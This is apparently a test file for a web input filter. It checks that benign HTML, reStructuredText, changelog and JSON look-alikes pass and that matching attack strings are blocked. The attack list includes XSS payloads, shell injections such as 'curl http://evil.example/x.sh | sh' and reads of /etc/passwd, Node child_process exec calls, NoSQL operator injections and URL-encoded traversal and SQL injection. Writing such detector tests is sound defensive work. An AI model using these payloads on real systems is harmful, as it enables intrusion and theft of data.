// Look-alikes that scripts/probe-docs.ts found in documentation, configuration and HTML pages carried
// in form fields, JSON and search queries, each fix beside the attacks of the same shape that must still
// block. The benign pieces are the shapes the probe found (paraphrased where the text was long), not
// corpus strings.
import { beforeAll, describe, expect, it } from "vitest";
import { loadHarness, type Harness } from "../support/harness.js";
import { TEXT_CARRIERS, blockedBy } from "../support/text-carriers.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

interface Fix { name: string; benign: string[]; attacks: string[] }

const FIXES: Fix[] = [
  {
    // A <meta> acts through http-equiv, charset or name=referrer; a <link> through rel=import, a script type or
    // an href that leaves the page's origin. Without them they name, describe or style the page.
    name: "xss 3001: <meta> and <link> whose attributes run and fetch nothing foreign",
    benign: [
      `<meta name="robots" content="noindex,follow">`,
      `<meta name="viewport" content="width=device-width, initial-scale=1">`,
      `<meta property="og:title" content="Defining modules">`,
      `<meta name="description" content="">`,
      `<link rel="stylesheet" href="css/highlight.css" title="Important imports">`,
      `<link rel="stylesheet" href="css/chrome-ae938929.css">`,
      `<link rel="stylesheet" href="css/print-9e4910d8.css" media="print">`,
      `<link rel="icon" type="image/svg+xml" href="../favicon.svg">`,
      `<link rel="shortcut icon" href="favicon.ico" type="image/x-icon" />`,
      `<link rel="stylesheet" href="/static/css/app.css"><link rel="home" href="index.html" title="Manual">`,
    ],
    attacks: [
      `<meta http-equiv="refresh" content="0;url=//evil.example">`,
      `<meta content="0;url=//evil.example" http-equiv="refresh">`,
      `<meta charset="UTF-7">`,
      `<meta charset="UTF-8">`,
      `<meta name="referrer" content="unsafe-url">`,
      `<link rel=import href=x.html>`,
      `<link rel="stylesheet" href="//evil.example/x.css">`,
      `<link rel="stylesheet" href="https://evil.example/x.css">`,
      `<link rel="stylesheet" href="data:text/css,*{}">`,
      `<link rel="stylesheet" href="/\\evil.example/x.css">`,
      `<link rel="stylesheet" href="/\t/evil.example/x.css">`,
      `<link href="x.js" rel=stylesheet type="text/javascript">`,
      `<link href=x.js rel=stylesheet type=text/javascript>`,
      `<link rel="import stylesheet" href="x.html">`,
      `<link rel="stylesheet" href="x.css" onload="alert(1)">`,
      `<link rel="stylesheet" href="x.css"`,
      `<LINK REL=STYLESHEET HREF=JAVASCRIPT:ALERT(1)>`,
    ],
  },
  {
    // A comment closed in the value hides nothing of the page; the markup it holds is still read as markup.
    name: "xss 3010: markup commented out inside the value",
    benign: [
      `<!-- <h3 id="d">D</h3> -->`,
      `<!-- <a href="#top" class="nav">Top</a> -->`,
      `<p>Before</p><!-- <div class="note">hidden</div> --><p>After</p>`,
    ],
    attacks: [
      `<!--<img src="--><img src=x onerror=alert(1)//">`,
      `<!-- <h3 id="d">D</h3>`,
      `--><svg onload=alert(1)>`,
      `-->`,
      `x --> <a href=//evil.example>x</a> <b>y</b>`,
      `<!-- x --><script>alert(1)</script>`,
    ],
  },
  {
    // <template> content is parsed as markup but neither rendered nor run until a script clones it, and a
    // </template> after the value's own <template> closes that one.
    name: "xss 3001/3006: an inline icon in a <template> (mdBook's Font Awesome sprites)",
    benign: [
      `<template id=fa-eye><span class=fa-svg><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 576 512"><!--! Icon 6.2.0 --><path d="M288 32c-80.8 0-145.5 36.8-192.6 80.6"/></svg></span></template>`,
      `<template id="row"><tr><td class="name"></td><td class="size"></td></tr></template>`,
    ],
    attacks: [
      `</template><img src=x onerror=alert(1)>`,
      `</template><a href=//evil.example/login>Sign in</a>`,
      `x</template><b>bold</b><template>`,
      `<template><script>alert(1)</script></template>`,
      `<template><img src=x onerror=alert(1)></template>`,
    ],
  },
  {
    // An empty substitution hides a word only when it splits one; reStructuredText wraps literals in a pair of
    // double backticks on one line, after a blank and before one.
    name: "rce 4101: reStructuredText literals (``name``) are no empty substitutions",
    benign: [
      "type guard function.  ``TypeGuard`` only accepts a single type argument.",
      "Type of ``val`` is narrowed to ``str``",
      "Export as a ``cryptography`` CRL.",
      "Use ``find`` with ``-name`` to match ``*.py`` files.",
    ],
    attacks: [
      "w``ho``am``i",
      "ping`` 127.0.0.1",
      "pi$()ng 127.0.0.1",
      ";c``at /etc/passwd",
      "``cat`` /etc/passwd",
      ";``whoami``",
      "$(``id``)",
    ],
  },
  {
    // sh reads `(` only where a command starts: a command word then a blank and `(` is a syntax error.
    name: "rce 4101: a command word before a parenthesis (a Debian changelog heading, a link list)",
    benign: [
      "sqlite3 (3.40.0-1) unstable; urgency=medium",
      "curl (8.5.0-2) unstable; urgency=medium",
      "Perl ([libapt-pkg-perl](https://tracker.debian.org/pkg/libapt-pkg-perl)) are available as separated projects.",
    ],
    attacks: [
      "sqlite3 /etc/passwd",
      "curl http://evil.example/x.sh | sh",
      "\\w (?P<x>\\S+)",
      "sqlite3 (3.40.0-1) unstable; cat /etc/passwd",
      "x; (id)",
      "$(curl http://evil.example/x)",
    ],
  },
  {
    // A quoted `child_process` is the module's name; one followed by `.html` is the Node.js docs' page about it.
    name: "nodejs 10130: a link to child_process.html names a page, not the module",
    benign: [
      `<li><a href="child_process.html" class="nav-child_process">Child processes</a></li>`,
      `See ["child_process.md"](child_process.md) for the API.`,
    ],
    attacks: [
      `require('child_process')`,
      `"child_process".exec("id")`,
      `(child_process).exec('id')`,
      `x = require("child_process.js")`,
      "import(`child_process`).then(m => m.exec('id'))",
    ],
  },
  {
    // `$search` takes a string only inside `$text` (reported first) and an object as an Atlas Search stage; alone with
    // a string (OData's `$search` option carried as JSON in a cookie, a header or a JSON string) it queries nothing.
    name: "nosql 12002: OData's $search with a string, carried as JSON text",
    benign: [
      `{"$search":"blue jeans","$top":5}`,
      `j:{"$search": "pending orders", "$orderby": "date desc"}`,
    ],
    attacks: [
      `{"$text":{"$search":"x"}}`,
      `{"username":{"$ne":null},"$search":"a"}`,
      `[{"$search":{"text":{"query":"x","path":"title"}}}]`,
      `{"$search": "blue", "$where": "sleep(5000)"}`,
      `{"password":{"$regex":"^a"}}`,
    ],
  },
  {
    // `%25` before no escape is a percent sign, and a URI or path keeps its own escapes: text typed URL-encoded
    // (an IPv6 zone, a JSON pointer, a mailto link) that the client escapes once more decodes to nothing further.
    // The same escapes outside a URI, and the payloads behind them, still score.
    name: "protocol 1043: text that is itself URL-encoded",
    benign: [
      'URI.parse("//[2001:db8::7%25en1]");',
      "/one/space%20in.url",
      "/$defs/string%20Map",
      "mailto:majordomo@example.com?body=subscribe%20list",
      "mailto:user@example.org?subject=caf%C3%A9",
    ],
    attacks: [
      "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
      "/%2e%2e/%2e%2e/etc/passwd",
      "%3Cscript%3Ealert(1)%3C/script%3E",
      "x%27 or%201=1--",
      "1 union%20select password from users",
    ],
  },
];

describe.each(FIXES)("$name", (fix) => {
  it.each(fix.benign)("passes: %s", (text) => {
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).toBe("");
  });
  it.each(fix.attacks)("blocks: %s", (text) => {
    for (const carrier of TEXT_CARRIERS) expect(blockedBy(h, carrier(text))).not.toBe("");
  });
});
